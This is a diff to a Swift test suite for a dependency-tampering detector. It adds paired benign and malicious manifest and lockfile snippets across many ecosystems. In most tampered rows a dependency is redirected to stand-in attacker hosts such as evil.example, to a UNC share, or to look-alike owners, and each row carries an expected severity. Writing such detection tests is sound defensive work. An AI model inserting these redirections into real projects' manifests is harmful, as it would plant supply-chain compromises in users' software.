@@ -258,6 +258,9 @@ struct PairedAttackTests {
       "[dependencies]\na = \"1\"\n[patch.crates-io]\na = { git = \"https://git.example/evil/a\" }\n",
       "234 high"),
     Row(
+      "Cargo: a UNC path", "Cargo.toml", "[dependencies]\na = \"1\"\n",
+      "[dependencies]\na = { path = '\\\\evil.example\\share\\a' }\n", "critical"),
+    Row(
       "Python: a file of a share", "requirements.txt", "a==1\n",
       "a==1\nb @ file://evil.example/share/b.whl\n", "222 critical"),
     Row(
@@ -265,6 +268,10 @@ struct PairedAttackTests {
       "[project]\nname = \"x\"\ndependencies = [\"a\"]\n",
       "[project]\nname = \"x\"\ndependencies = [\"a\"]\n[tool.uv.sources]\na = { git = \"https://git.example/evil/a\" }\n",
       "234 high"),
+    Row(
+      "uv: dependencies that override others", "pyproject.toml", "[project]\nname = \"x\"\n",
+      "[project]\nname = \"x\"\n[tool.uv]\noverride-dependencies = [\"a @ https://evil.example/a.whl\"]\n",
+      "high"),
     Row(
       "Python: a build that needs another program", "pyproject.toml",
       "[build-system]\nrequires = [\"setuptools\"]\n",
@@ -301,6 +308,10 @@ struct PairedAttackTests {
       "services:\n  a:\n    image: o/a@sha256:\(sha)\n", "services:\n  a:\n    image: o/a:latest\n",
       "high"),
     Row(
+      "compose: an image of another registry", "compose.yml",
+      "services:\n  a:\n    image: registry.corp.example/a:1\n",
+      "services:\n  a:\n    image: registry.evil.example/a:1\n", "high"),
+    Row(
       "GitHub: an action of an owner that looks the same", ".github/workflows/ci.yml",
       workflow("uses: actions/checkout@\(commit)"), workflow("uses: actlons/checkout@\(commit)"),
       "high"),
@@ -319,6 +330,10 @@ struct PairedAttackTests {
       "GitLab: a component of another project", ".gitlab-ci.yml",
       "include:\n  - component: git.example/o/c@1.0.0\n",
       "include:\n  - component: git.example/evil/c@1.0.0\n", "234 high"),
+    Row(
+      "CircleCI: an orb of another owner", ".circleci/config.yml",
+      "version: 2.1\norbs:\n  node: circleci/node@5.0.0\n",
+      "version: 2.1\norbs:\n  node: evil/node@5.0.0\n", "high"),
     Row(
       "pre-commit: the same hook of another repository", ".pre-commit-config.yaml",
       "repos:\n  - repo: https://git.example/o/h\n    rev: \(commit)\n    hooks:\n      - id: x\n",
@@ -367,6 +382,15 @@ struct PairedAttackTests {
       flake(
         "\"type\": \"path\", \"path\": \"/srv/x\", \"narHash\": \"sha256-\(String(repeating: "B", count: 43))=\""
       ), "critical"),
+    Row(
+      "Swift: a version that becomes a branch", "Package.resolved",
+      swift(
+        "\"location\": \"https://git.example/o/x.git\", \"state\": {\"revision\": \"\(commit)\", \"version\": \"1.0.0\"}"
+      ),
+      swift(
+        "\"location\": \"https://git.example/o/x.git\", \"state\": {\"revision\": \"\(Judged.hex("b", 20))\", \"branch\": \"main\"}"
+      ),
+      "high"),
     Row(
       "Swift: a repository of a folder", "Package.resolved",
       swift(
@@ -417,6 +441,11 @@ struct PairedAttackTests {
       "version = 1\n\n[[package]]\nname = \"a\"\nversion = \"1.0.1\"\nsource = { registry = \"https://pypi.org/simple\" }\nsdist = { url = \"https://files.pythonhosted.org/packages/evil-1.0.1.tar.gz\", hash = \"sha256:\(sha)\" }\n",
       "216 critical"),
     Row(
+      "PHP: the archive's commit is not the source's", "composer.lock",
+      "{\"content-hash\": \"00\", \"packages\": [{\"name\": \"a/a\", \"version\": \"1.0.0\",\n\"source\": {\"type\": \"git\", \"url\": \"https://git.example/a/a\", \"reference\": \"\(commit)\"},\n\"dist\": {\"type\": \"zip\", \"url\": \"https://api.github.com/repos/a/a/zipball/\(commit)\", \"reference\": \"\(commit)\", \"shasum\": \"\"}}], \"packages-dev\": []}\n",
+      "{\"content-hash\": \"00\", \"packages\": [{\"name\": \"a/a\", \"version\": \"1.0.1\",\n\"source\": {\"type\": \"git\", \"url\": \"https://git.example/a/a\", \"reference\": \"\(commit)\"},\n\"dist\": {\"type\": \"zip\", \"url\": \"https://api.github.com/repos/a/a/zipball/\(Judged.hex("b", 20))\", \"reference\": \"\(Judged.hex("b", 20))\", \"shasum\": \"\"}}], \"packages-dev\": []}\n",
+      "217 critical"),
+    Row(
       "npm: a name in letters of another script", "package-lock.json",
       Judged.npm([
         ("ms", "2.1.3", "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz", Judged.sha512("A"))
@@ -465,6 +494,11 @@ struct PairedAttackTests {
     Row(
       "Yarn: one checksum of another form than all others", "yarn.lock",
       berry("10c0/\(Judged.hex("a", 64))"), berry("10c0/\(Judged.hex("a", 20))"), "212 critical"),
+    Row(
+      "Unity: the digest of a commit", "Packages/packages-lock.json",
+      "{\"dependencies\": {\"com.acme.a\": {\"version\": \"https://git.example/o/a.git#v1.0.0\", \"depth\": 0, \"source\": \"git\", \"dependencies\": {}, \"hash\": \"\(commit)\"}}}\n",
+      "{\"dependencies\": {\"com.acme.a\": {\"version\": \"https://git.example/o/a.git#v1.0.0\", \"depth\": 0, \"source\": \"git\", \"dependencies\": {}, \"hash\": \"\(Judged.hex("b", 20))\"}}}\n",
+      "220 "),
     Row(
       "Deno: a redirect to another module", "deno.lock",
       "{\"version\": \"5\", \"redirects\": {\"https://esm.example/a\": \"https://esm.example/a@1.0.0\"}, \"remote\": {\"https://esm.example/a@1.0.0\": \"\(sha)\"}}\n",
@@ -515,6 +549,14 @@ struct PairedAttackTests {
       "[[source]]\nname = \"pypi\"\nurl = \"https://pypi.org/simple\"\nverify_ssl = false\n",
       "234 high"),
     Row(
+      "Deno: an import by another name", "deno.json",
+      manifest("\"imports\": {\"ms\": \"npm:ms@2.1.3\"}"),
+      manifest("\"imports\": {\"ms\": \"npm:evil@2.1.3\"}"), "high"),
+    Row(
+      "Deno: an import by an address", "deno.json",
+      manifest("\"imports\": {\"ms\": \"npm:ms@2.1.3\"}"),
+      manifest("\"imports\": {\"ms\": \"https://evil.example/ms.ts\"}"), "high"),
+    Row(
       "import map: a scope", "import_map.json", "{\"imports\": {}}\n",
       "{\"imports\": {}, \"scopes\": {\"https://esm.example/\": {\"a\": \"https://evil.example/a.js\"}}}\n",
       "high"),
@@ -539,6 +581,11 @@ struct PairedAttackTests {
       "devcontainer: a feature of another registry", ".devcontainer/devcontainer.json",
       "{\"image\": \"a:1\", \"features\": {\"ghcr.io/o/f/node:1\": {}}}\n",
       "{\"image\": \"a:1\", \"features\": {\"ghcr.io/evil/f/node:1\": {}}}\n", "high"),
+    Row(
+      "Dart: the address of a hosted package", "pubspec.yaml",
+      "name: a\ndependencies:\n  b: ^1.0.0\n",
+      "name: a\ndependencies:\n  b:\n    hosted: https://pub.evil.example\n    version: ^1.0.0\n",
+      "high"),
     Row(
       "Go: a workspace's replacement", "go.work", "go 1.22\n\nuse ./a\n",
       "go 1.22\n\nuse ./a\n\nreplace a.example/a => evil.example/a v1.0.0\n", "234 high"),
@@ -619,6 +666,12 @@ struct PairedAttackTests {
     Row(
       "pnpm: a patch of a package", "pnpm-lock.yaml", "lockfileVersion: '9.0'\nimporters: {}\n",
       "lockfileVersion: '9.0'\npatchedDependencies:\n  ms: {hash: aa, path: patches/ms.patch}\nimporters: {}\n",
+      "high"),
+    Row(
+      "composer: an alias of a branch", "composer.lock", composer("[]"),
+      composer(
+        "[{\"package\": \"a/a\", \"version\": \"9999999-dev\", \"alias\": \"1.0.0\", \"alias_normalized\": \"1.0.0.0\"}]"
+      ),
       "high"),
     Row(
       "NuGet: a name in other letters", "packages.lock.json",
